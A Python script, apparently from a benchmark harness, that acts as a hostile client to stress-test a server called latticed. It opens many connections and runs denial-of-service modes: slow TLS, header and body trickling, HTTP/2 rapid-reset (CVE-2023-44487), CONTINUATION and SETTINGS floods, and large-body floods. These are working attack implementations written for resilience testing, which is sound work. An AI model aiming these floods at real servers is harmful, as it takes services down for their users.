"""A hostile tenant for `cargo xtask bench`'s abuse scenarios: keeps CONNS
connections to HOST:PORT doing one kind of harm until stdin closes (or
SECONDS pass), reopening each one latticed cuts, so the pressure holds.

usage: abuse.py MODE HOST PORT CONNS SECONDS [KEY]

Slow clients (few bytes, held long):
- `tls`: a real ClientHello sent one byte every 2 s;
- `head`: a request head with 8 KiB of fields at once, then one more field
  every 2 s, never finished;
- `body`: to an AWS_IAM service with access key KEY (a known key, so the
  body must be read to check its hash): declares 1 MiB, sends 1 KiB, then
  one byte every 2 s;
- `response`: asks for 1 MiB (`?size=`) with a 4 KiB receive buffer and
  never reads.

Floods (HTTP/2 with prior knowledge, as fast as one core goes):
- `rapid-reset`: HEADERS then RST_STREAM, stream after stream
  (CVE-2023-44487);
- `continuation`: one HEADERS without END_HEADERS, then CONTINUATION frames
  of 1 KiB fields without end;
- `settings`: SETTINGS frames without end, never reading the ACKs.

Large bodies:
- `bodies`: to an AWS_IAM service with known key KEY, 10 MiB bodies sent as
  fast as they go; each answer is counted and the connection reopened.

Prints `ready` once the first CONNS connections are open, and at the end one
JSON object: connections opened, how many latticed closed, the answers'
status codes, bytes and frames sent.
"""
import json
import resource
import selectors
import socket
import ssl
import struct
import sys
import threading
import time

mode, host, port, conns, seconds = (sys.argv[1], sys.argv[2], int(sys.argv[3]),
                                    int(sys.argv[4]), float(sys.argv[5]))
key = sys.argv[6] if len(sys.argv) > 6 else "AKIDUNKNOWN000000000"
resource.setrlimit(resource.RLIMIT_NOFILE, (conns + 1000, conns + 1000))
addr = (socket.getaddrinfo(host, port, socket.AF_INET, socket.SOCK_STREAM)[0][4])
TICK = 2.0

stats = {"mode": mode, "opened": 0, "closedByServer": 0, "statuses": {},
         "bytesSent": 0, "frames": 0, "goaways": 0}


def client_hello():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname=host)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def signed_head(length):
    amz_date = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime())
    auth = ("AWS4-HMAC-SHA256 Credential=%s/%s/us-east-1/vpc-lattice-svcs/aws4_request, "
            "SignedHeaders=host;x-amz-date, Signature=%s" % (key, amz_date[:8], "0" * 64))
    return ("POST /upload HTTP/1.1\r\nHost: %s\r\nx-amz-date: %s\r\nAuthorization: %s\r\n"
            "Content-Length: %d\r\n\r\n" % (host, amz_date, auth, length)).encode()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first=0):
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes([first | value])
    out = [first | top]
    value -= top
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value):
    # Literal without indexing, new name, no Huffman.
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
# :method GET, :scheme http, :path /, :authority HOST.
REQUEST = b"\x82\x86\x84" + b"\x41" + hpack_int(len(host), 7) + host.encode()
FIELD = literal(b"x-flood", b"a" * 1000)
SETTINGS = frame(4, 0, 0, struct.pack(">HI", 3, 100))
BODY_CHUNK = memoryview(b"b" * (256 << 10))
BODY_LEN = 10 << 20


class Conn:
    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if mode == "response":
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.sock.setblocking(False)
        self.sock.connect_ex(addr)
        self.out = b""
        self.stream = 1
        self.sent = 0
        self.answer = b""
        self.next_tick = time.monotonic() + TICK
        if mode == "tls":
            self.rest = HELLO
        elif mode == "head":
            self.out = ("GET / HTTP/1.1\r\nHost: %s\r\n" % host).encode() + b"".join(
                b"x-pad-%d: %s\r\n" % (i, b"p" * 100) for i in range(75))
        elif mode == "body":
            self.out = signed_head(1 << 20) + b"x" * 1024
        elif mode == "response":
            self.out = ("GET /?size=1048576 HTTP/1.1\r\nHost: %s\r\n\r\n" % host).encode()
        elif mode in ("rapid-reset", "settings"):
            self.out = PREFACE
        elif mode == "continuation":
            self.out = PREFACE + frame(1, 0, 1, REQUEST)
        elif mode == "bodies":
            self.out = signed_head(BODY_LEN)
            # Counts body bytes only: the head goes first.
            self.sent = -len(self.out)
        stats["opened"] += 1

    def refill(self):
        """More to send when the socket can take it, for the floods."""
        if mode == "rapid-reset":
            batch = []
            for _ in range(64):
                batch.append(frame(1, 0x5, self.stream, REQUEST))
                batch.append(frame(3, 0, self.stream, struct.pack(">I", 8)))
                self.stream += 2
            stats["frames"] += 128
            self.out = b"".join(batch)
        elif mode == "continuation":
            self.out = frame(9, 0, 1, FIELD) * 16
            stats["frames"] += 16
        elif mode == "settings":
            self.out = SETTINGS * 64
            stats["frames"] += 64
        elif mode == "bodies" and self.sent < BODY_LEN:
            self.out = BODY_CHUNK[: min(len(BODY_CHUNK), BODY_LEN - self.sent)]

    def tick(self):
        """A slow client's next few bytes."""
        if mode == "tls" and self.rest:
            self.out, self.rest = self.rest[:1], self.rest[1:]
        elif mode == "head":
            self.out = b"x-more: 1\r\n"
        elif mode == "body":
            self.out = b"x"

    def wants_write(self):
        return bool(self.out) or mode in ("rapid-reset", "continuation", "settings", "bodies")


HELLO = client_hello() if mode == "tls" else b""
sel = selectors.DefaultSelector()
stop = threading.Event()


def watch_stdin():
    sys.stdin.read()
    stop.set()


threading.Thread(target=watch_stdin, daemon=True).start()


def open_one():
    c = Conn()
    events = selectors.EVENT_WRITE
    # A client that never reads does not ask to.
    if mode not in ("response", "settings"):
        events |= selectors.EVENT_READ
    sel.register(c.sock, events, c)


def close(c, by_server):
    sel.unregister(c.sock)
    c.sock.close()
    if by_server:
        stats["closedByServer"] += 1


for _ in range(conns):
    open_one()
print("ready", flush=True)
deadline = time.monotonic() + seconds
next_tick = time.monotonic() + TICK
while not stop.is_set() and time.monotonic() < deadline:
    for k, ev in sel.select(timeout=0.2):
        c = k.data
        try:
            if ev & selectors.EVENT_READ:
                data = c.sock.recv(65536)
                if not data:
                    close(c, True)
                    open_one()
                    continue
                if mode in ("rapid-reset", "continuation"):
                    # A GOAWAY frame type anywhere in what came back is
                    # enough to count latticed's refusals.
                    stats["goaways"] += data.count(b"\x07\x00\x00\x00\x00\x00")
                elif not c.answer:
                    c.answer = data
                    status = data.split(b" ", 2)[1].decode(errors="replace") if b" " in data else "?"
                    stats["statuses"][status] = stats["statuses"].get(status, 0) + 1
                    if mode == "bodies":
                        close(c, False)
                        open_one()
                        continue
            if ev & selectors.EVENT_WRITE:
                if not c.out:
                    c.refill()
                if c.out:
                    n = c.sock.send(c.out)
                    stats["bytesSent"] += n
                    c.sent += n
                    c.out = c.out[n:]
                if not c.wants_write():
                    sel.modify(c.sock, sel.get_key(c.sock).events & ~selectors.EVENT_WRITE, c)
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            close(c, True)
            open_one()
    now = time.monotonic()
    if now >= next_tick and mode in ("tls", "head", "body"):
        next_tick = now + TICK
        for k in list(sel.get_map().values()):
            c = k.data
            c.tick()
            if c.out:
                try:
                    sel.modify(c.sock, k.events | selectors.EVENT_WRITE, c)
                except (KeyError, ValueError):
                    pass
# Connections latticed has closed but this client never read from (and so
# never saw close) are not ESTABLISHED any more.
stats["openAtEnd"] = sum(
    1 for k in sel.get_map().values()
    if k.data.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == 1)
print(json.dumps(stats), flush=True)
